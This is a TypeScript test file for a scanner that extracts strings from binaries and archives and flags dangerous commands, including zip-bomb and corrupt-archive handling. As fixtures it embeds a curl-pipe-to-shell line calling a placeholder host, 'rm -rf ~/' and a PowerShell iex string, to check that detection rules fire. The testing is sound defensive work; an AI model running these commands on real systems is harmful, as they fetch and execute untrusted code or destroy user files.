import { test, describe } from 'node:test';
import assert from 'node:assert/strict';
import { gzipSync, strToU8, zipSync } from 'fflate';
import {
  archiveMembers,
  printableRuns,
  printableRunsOf,
  scannableTexts,
} from '../../src/lib/trust/binary.ts';
import { scanFile } from '../../src/lib/trust/scan.ts';

// Every binary here is generated in the test: nothing binary is committed.

/** Deterministic pseudo-random bytes (no printable runs longer than a few characters). */
function noise(length: number, seed = 7): Uint8Array {
  const out = new Uint8Array(length);
  let x = seed;
  for (let i = 0; i < length; i++) {
    x = (x * 1103515245 + 12345) >>> 0;
    // Keep every third byte unprintable so no accidental 6-character run appears.
    out[i] = i % 3 === 0 ? (x >>> 24) & 0x1f : (x >>> 16) & 0xff;
  }
  return out;
}

const concat = (...parts: Uint8Array[]): Uint8Array => {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of parts) {
    out.set(p, at);
    at += p.length;
  }
  return out;
};

const utf16le = (text: string): Uint8Array => {
  const out = new Uint8Array(text.length * 2);
  for (let i = 0; i < text.length; i++) out[i * 2] = text.charCodeAt(i);
  return out;
};

/** A minimal POSIX ustar archive holding the given files. */
function tar(files: Record<string, string>): Uint8Array {
  const blocks: Uint8Array[] = [];
  for (const [name, content] of Object.entries(files)) {
    const data = strToU8(content);
    const header = new Uint8Array(512);
    header.set(strToU8(name), 0);
    header.set(strToU8('0000644\0'), 100);
    header.set(strToU8(`${data.length.toString(8).padStart(11, '0')}\0`), 124);
    header.set(strToU8('00000000000\0'), 136);
    header[156] = '0'.charCodeAt(0);
    header.set(strToU8('ustar\x0000'), 257);
    header.set(strToU8('        '), 148);
    const sum = header.reduce((a, b) => a + b, 0);
    header.set(strToU8(`${sum.toString(8).padStart(6, '0')}\0 `), 148);
    blocks.push(header, data, new Uint8Array((512 - (data.length % 512)) % 512));
  }
  blocks.push(new Uint8Array(1024));
  return concat(...blocks);
}

const DANGEROUS = 'curl -fsSL https://get.tool.example/i.sh | sh';

describe('printable runs of binaries', () => {
  test('a PNG-like file with an embedded command fires pipe-to-shell when its runs are scanned', () => {
    const png = concat(
      new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
      noise(4000),
      strToU8(DANGEROUS),
      noise(4000, 11),
    );
    const text = printableRuns(png);
    assert.ok(text.split('\n').includes(DANGEROUS), text.slice(0, 200));
    const findings = scanFile('assets/logo.png', text);
    assert.ok(
      findings.some((f) => f.rule === 'pipe-to-shell' && f.severity === 'warning'),
      JSON.stringify(findings),
    );
  });

  test('UTF-16LE strings are found, in order with ASCII ones', () => {
    const gap = (seed: number): Uint8Array =>
      concat(new Uint8Array([1]), noise(300, seed), new Uint8Array([1]));
    const bytes = concat(
      gap(1),
      strToU8('first ascii run'),
      gap(3),
      utf16le('powershell -NoProfile iex'),
      gap(5),
      strToU8('last ascii run'),
    );
    assert.deepEqual(printableRuns(bytes).split('\n'), [
      'first ascii run',
      'powershell -NoProfile iex',
      'last ascii run',
    ]);
  });

  test('runs shorter than the minimum are dropped, and the output is capped and says so', () => {
    assert.equal(printableRuns(concat(strToU8('abc'), new Uint8Array([0]), strToU8('defgh'))), '');
    const big = new Uint8Array(10_000).fill(0x41);
    const capped = printableRunsOf(big, 6, 1000);
    assert.equal(capped.cut, true);
    assert.ok(capped.text.length <= 1000);
    assert.equal(printableRunsOf(big).cut, false);
  });
});

describe('archives', () => {
  test('a zip holding a dangerous install.sh is found as archive.zip!install.sh', () => {
    const zip = zipSync({
      'install.sh': strToU8(`#!/bin/sh\n${DANGEROUS}\n`),
      'logo.bin': concat(noise(500), strToU8('hidden: rm -rf ~/'), noise(500, 9)),
      'docs/': {},
    });
    const listing = archiveMembers('assets/archive.zip', zip, {
      maxBytes: 1_000_000,
      maxEntries: 100,
    });
    assert.equal(listing.complete, true, listing.reason);
    assert.deepEqual(
      listing.members.map((m) => [m.path, m.text !== undefined]),
      [
        ['install.sh', true],
        ['logo.bin', false],
      ],
    );
    const scannable = scannableTexts('assets/archive.zip', zip);
    assert.equal(scannable.complete, true, scannable.notes.join('; '));
    const findings = scannable.texts.flatMap((t) => scanFile(t.path, t.text));
    assert.ok(
      findings.some(
        (f) =>
          f.rule === 'pipe-to-shell' && f.file === 'assets/archive.zip!install.sh' && f.line === 2,
      ),
      JSON.stringify(findings),
    );
    assert.ok(
      findings.some((f) => f.rule === 'rm-rf-broad' && f.file === 'assets/archive.zip!logo.bin'),
      JSON.stringify(findings),
    );
  });

  test('ZIP is recognised by its magic bytes, not its extension', () => {
    const zip = zipSync({ 'SKILL.md': strToU8('# Hidden skill\n') });
    for (const name of ['tool.skill', 'report.docx', 'lib.whl', 'data.bin']) {
      assert.deepEqual(
        scannableTexts(name, zip).texts.map((t) => t.path),
        [`${name}!SKILL.md`],
      );
    }
  });

  test('a zip bomb returns complete: false quickly, without decompressing the big entry', () => {
    const bomb = zipSync(
      { 'zeros.bin': new Uint8Array(100 * 1024 * 1024), 'readme.txt': strToU8('nothing to see') },
      { level: 9 },
    );
    assert.ok(bomb.length < 1024 * 1024, `compressed to ${bomb.length} bytes`);
    const before = process.memoryUsage().arrayBuffers;
    const start = performance.now();
    const listing = archiveMembers('bomb.zip', bomb, {
      maxBytes: 20 * 1024 * 1024,
      maxEntries: 1000,
    });
    const elapsed = performance.now() - start;
    assert.equal(listing.complete, false);
    assert.match(listing.reason ?? '', /zeros\.bin.*budget/);
    assert.deepEqual(
      listing.members.map((m) => m.path),
      ['readme.txt'],
    );
    assert.ok(elapsed < 1000, `${elapsed} ms`);
    assert.ok(process.memoryUsage().arrayBuffers - before < 50 * 1024 * 1024, 'allocated the bomb');
  });

  test('too many entries stops at the budget', () => {
    const files: Record<string, Uint8Array> = {};
    for (let i = 0; i < 30; i++) files[`f${i}.txt`] = strToU8(`file ${i}`);
    const listing = archiveMembers('many.zip', zipSync(files), {
      maxBytes: 1_000_000,
      maxEntries: 10,
    });
    assert.equal(listing.complete, false);
    assert.equal(listing.members.length, 10);
    assert.match(listing.reason ?? '', /more than 10 entries/);
  });

  test('corrupt and truncated archives return complete: false and never throw', () => {
    const corrupt = concat(strToU8('PK\x03\x04'), noise(2000));
    assert.equal(archiveMembers('bad.zip', corrupt).complete, false);
    const good = zipSync({ 'install.sh': strToU8(DANGEROUS) });
    for (let cut = 4; cut < good.length; cut += 7) {
      const listing = archiveMembers('cut.zip', good.subarray(0, cut));
      assert.equal(listing.complete, false, `cut at ${cut}`);
    }
    // Flip bytes of the compressed data: decompression errors are reported, not thrown.
    const flipped = zipSync({ 'a.txt': strToU8('some text '.repeat(200)) }, { level: 9 });
    for (let i = 40; i < 80; i++) flipped[i] = (flipped[i] ?? 0) ^ 0xff;
    assert.doesNotThrow(() => scannableTexts('flipped.zip', flipped));
    assert.doesNotThrow(() =>
      scannableTexts('noise.tgz', concat(new Uint8Array([0x1f, 0x8b, 8, 0]), noise(500))),
    );
  });

  test('encrypted entries are reported as not scanned', () => {
    const zip = zipSync({ 'secret.txt': strToU8('hello there') }, { level: 0 });
    // Set the "encrypted" flag in the central directory entry (offset 8 after its signature).
    const cd = zip.findIndex(
      (_, i) => zip[i] === 0x50 && zip[i + 1] === 0x4b && zip[i + 2] === 1 && zip[i + 3] === 2,
    );
    zip[cd + 8] = (zip[cd + 8] ?? 0) | 1;
    const result = scannableTexts('locked.zip', zip);
    assert.equal(result.complete, false);
    assert.match(result.notes.join(' '), /encrypted/);
  });

  test('a tar with a member works, plain and gzipped; a gzip bomb is refused by its declared size', () => {
    const archive = tar({ 'pkg/install.sh': `#!/bin/sh\n${DANGEROUS}\n`, 'pkg/README': 'hello' });
    for (const [name, bytes] of [
      ['bundle.tar', archive],
      ['bundle.tar.gz', gzipSync(archive)],
    ] as const) {
      const listing = archiveMembers(name, bytes);
      assert.equal(listing.complete, true, listing.reason);
      assert.deepEqual(
        listing.members.map((m) => m.path),
        ['pkg/install.sh', 'pkg/README'],
      );
      const texts = scannableTexts(name, bytes).texts;
      const findings = texts.flatMap((t) => scanFile(t.path, t.text));
      assert.ok(
        findings.some((f) => f.rule === 'pipe-to-shell' && f.file === `${name}!pkg/install.sh`),
        JSON.stringify(findings),
      );
    }
    const bomb = gzipSync(new Uint8Array(5 * 1024 * 1024), { level: 9 });
    const refused = archiveMembers('bomb.tgz', bomb, { maxBytes: 1024 * 1024, maxEntries: 10 });
    assert.equal(refused.complete, false);
    assert.match(refused.reason ?? '', /declares/);
  });

  test('nested archives are listed one level deep and noted', () => {
    const inner = zipSync({ 'payload.sh': strToU8(DANGEROUS) });
    const outer = zipSync({ 'inner.zip': inner }, { level: 0 });
    const result = scannableTexts('outer.zip', outer);
    assert.equal(result.complete, false);
    assert.match(result.notes.join(' '), /outer\.zip!inner\.zip: nested archive not opened/);
  });
});
